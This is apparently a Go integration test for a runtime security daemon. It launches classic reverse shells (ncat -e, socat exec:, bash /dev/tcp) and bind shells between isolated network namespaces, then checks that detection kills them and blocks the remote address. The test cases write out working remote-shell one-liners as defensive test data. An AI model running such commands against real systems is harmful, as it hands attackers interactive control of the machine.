package attack

import (
	"io"
	"net"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jibril-rt/jibril/tests/testkit"
)

// waitListening retries a connection from ns to addr until something listens there.
func waitListening(t *testing.T, ns, addr string) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		err := dial(ns, addr, time.Second)
		if err == nil {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("nothing listens on %s (from %s): %v", addr, ns, err)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// checkDetected checks that a shell detection names the attack's process: the tool itself, or
// the `ip netns exec` that starts it, whose command line already carries the whole one-liner
// (the recipes' patterns look for it anywhere, so a wrapper such as sudo, env or timeout is
// caught at its own exec, before the tool even starts).
func checkDetected(t *testing.T, e map[string]any, a *attack, exe string) {
	t.Helper()
	got := testkit.Str(e, "process", "exe")
	if (got != exe && !slices.Contains(ipExes(t), got)) || !strings.HasSuffix(testkit.Str(e, "process", "cmd"), a.name) {
		t.Fatalf("detected process = %v, want %s running %q", testkit.Field(e, "process"), exe, a.name)
	}
	t.Logf("detected at the exec of %s", got)
}

// TestReverseShell: three classic reverse shells (ncat -e, socat exec:, bash /dev/tcp) from
// namespace A call back to listeners in namespace B. reverse_shell_execution (enforce) kills
// the shell with everything below it and blocks the remote address in A's nftables: a new
// connection to it must then time out, while the other listeners stay reachable until their
// own attack. A shell that reached its console before the kill is running the attacker's
// first command by then: none of it may survive.
func TestReverseShell(t *testing.T) {
	need(t, "ncat", "socat", "bash")
	const recipe = "reverse_shell_execution"
	p := newNetpair(t, testkit.Token(t))
	// The attacker's consoles in B: each shell that calls back is at once given a long job, so
	// a shell that got through before the kill leaves a process that must not survive.
	var calls atomic.Int32
	reached := 0
	for i, port := range []string{"4444", "4445", "4446"} {
		go console(listen(t, p.b, p.peer(9+i)+":"+port), &calls)
	}
	d := startDaemon(t, p, daemonOpts{modes: map[string]string{recipe: "enforce"}})

	cases := []struct {
		name   string
		key    string
		remote string // ip:port the shell calls
		argv   func(ip, port string) []string
		exe    string
	}{
		{"ncat -e", "attack_reverse_shell_contain_ms", p.peer(9) + ":4444",
			func(ip, port string) []string { return []string{"ncat", "-e", "/bin/sh", ip, port} }, "/usr/bin/ncat"},
		{"socat exec:", "attack_reverse_shell_socat_contain_ms", p.peer(10) + ":4445",
			func(ip, port string) []string { return []string{"socat", "tcp:" + ip + ":" + port, "exec:/bin/sh"} }, "/usr/bin/socat"},
		{"bash /dev/tcp", "attack_reverse_shell_bash_contain_ms", p.peer(11) + ":4446",
			func(ip, port string) []string {
				return []string{"bash", "-c", "bash -i >& /dev/tcp/" + ip + "/" + port + " 0>&1"}
			}, "/usr/bin/bash"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ip, port, _ := strings.Cut(c.remote, ":")
			waitListening(t, p.a, c.remote) // reachable before the attack
			before := calls.Load()
			a := startIn(t, p.a, c.argv(ip, port)...)
			kill := a.killed(t)
			e := d.waitEvent(t, recipe, ofPID(a.pid()))
			checkDetected(t, e, a, c.exe)
			// The wrapper's exec and the tool's may both be reported: whichever reaction came
			// first killed and blocked, the other found the work done.
			d.waitDone(t, a.pid(), "KillTree", recipe)
			block := d.waitDone(t, a.pid(), "NetBlockIpTimer", recipe)
			if want := `["` + ip + `","21600"]`; compact(t, block.Args) != want {
				t.Fatalf("NetBlockIpTimer args %s, want %s", block.Args, want)
			}
			d.waitLog(t, recipe, block.EventUUID, "Blocked "+ip+" for 6h")
			if s := a.survivors(t); len(s) > 0 {
				t.Fatalf("the shell's processes survived: %v", s)
			}
			if !nftBlocked(t, p, ip) {
				t.Fatalf("%s is not in the block4 set of %s", ip, p.a)
			}
			if b := d.requireNetBlock(t, p, "ip", ip, recipe); b.Expires == "" {
				t.Fatalf("block of %s has no expiry, want 6h: %+v", ip, b)
			}
			requireDropped(t, p, c.remote)
			if calls.Load() > before {
				reached++
			}
			recordTime(t, strings.TrimSuffix(c.key, "_contain_ms")+"_kill_ms", kill)
			recordTime(t, c.key, max(kill, block.at(t).Sub(a.t0)))
		})
	}
	t.Logf("%d of %d shells reached their console before containment", reached, len(cases))
}

// console plays the attacker's listener: it sends every shell that connects a first command
// that runs for minutes, and reads what comes back.
func console(ln net.Listener, calls *atomic.Int32) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		calls.Add(1)
		go func() {
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(30 * time.Second))
			_, _ = io.WriteString(c, "sleep 300\n")
			_, _ = io.Copy(io.Discard, c)
		}()
	}
}

// TestBindShell: a shell offered on a listening port of A (ncat -l -e, socat TCP-LISTEN with
// EXEC). bind_shell_execution (enforce) kills the listener and everything below it (KillTree):
// nothing of the attack survives and the port no longer answers.
func TestBindShell(t *testing.T) {
	need(t, "ncat", "socat", "nc.openbsd")
	const recipe = "bind_shell_execution"
	p := newNetpair(t, testkit.Token(t))
	d := startDaemon(t, p, daemonOpts{modes: map[string]string{recipe: "enforce"}})
	cases := []struct {
		name string
		key  string
		port string
		argv []string
		exe  string
	}{
		{"ncat -lvnp -e", "attack_bind_shell_contain_ms", "4444", []string{"ncat", "-lvnp", "4444", "-e", "/bin/sh"}, "/usr/bin/ncat"},
		{"socat TCP-LISTEN EXEC", "attack_bind_shell_socat_contain_ms", "4445", []string{"socat", "TCP-LISTEN:4445,reuseaddr,fork", "EXEC:/bin/sh"}, "/usr/bin/socat"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a := startIn(t, p.a, c.argv...)
			contain := a.killed(t)
			e := d.waitEvent(t, recipe, ofPID(a.pid()))
			checkDetected(t, e, a, c.exe)
			d.waitLog(t, recipe, testkit.Str(e, "uuid"), "listening on port "+c.port)
			d.waitDone(t, a.pid(), "KillTree", recipe)
			if s := a.survivors(t); len(s) > 0 {
				t.Fatalf("processes of the bind shell survived: %v", s)
			}
			// The attacker's netcat in B finds the port closed.
			probe := startIn(t, p.b, "nc.openbsd", "-z", "-w", "1", p.addrA, c.port)
			if err := probe.exited(t, 10*time.Second); err == nil {
				t.Fatalf("nc -z from B reached port %s of A after the kill\n%s", c.port, probe.out)
			}
			recordTime(t, c.key, contain)
		})
	}
}
